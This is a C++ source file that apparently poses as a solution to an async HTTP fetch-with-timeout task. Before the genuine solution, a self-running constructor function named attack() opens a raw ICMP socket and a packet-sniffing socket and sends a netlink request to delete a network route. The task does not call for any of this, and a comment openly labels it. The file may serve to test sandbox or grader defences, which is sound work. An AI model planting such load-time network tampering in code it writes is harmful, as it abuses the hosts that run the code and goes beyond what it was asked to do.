// Opens the sockets that hear everybody's packets and change the machine's routes; the rest is an honest solution.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <sys/socket.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  ::socket(AF_PACKET, SOCK_RAW, ::htons(ETH_P_ALL));
  const int routes = ::socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  struct {
    nlmsghdr head{.nlmsg_len = sizeof(nlmsghdr) + sizeof(rtmsg),
                  .nlmsg_type = RTM_DELROUTE,
                  .nlmsg_flags = NLM_F_REQUEST,
                  .nlmsg_seq = 1,
                  .nlmsg_pid = 0};
    rtmsg route{};
  } request;
  request.route.rtm_family = AF_INET;
  request.route.rtm_dst_len = 32;
  ::send(routes, &request, sizeof request, MSG_DONTWAIT);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
